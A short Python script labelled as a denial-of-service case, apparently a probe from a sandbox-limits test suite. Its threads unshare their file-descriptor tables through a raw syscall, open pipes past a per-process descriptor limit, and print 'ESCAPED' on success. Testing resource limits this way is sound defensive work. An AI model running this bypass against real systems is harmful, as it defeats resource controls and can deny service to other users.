# class: dos
# Gives each thread a table of descriptors of its own, so that each may open as many as the limit allows.
import ctypes,os,threading
l=ctypes.CDLL(None,use_errno=True); n=[0]; hold=threading.Event(); threading.stack_size(65536)
def one():
    if l.syscall(436,6,6,2)<0: return
    try:
        while n[0]<2000: os.pipe(); n[0]+=2
    except OSError: pass
    hold.wait(1)
ts=[threading.Thread(target=one,daemon=True) for _ in range(10)]
for t in ts: t.start()
import time; time.sleep(.2); hold.set()
print("ESCAPED %d descriptors"%n[0] if n[0]>300 else n[0])
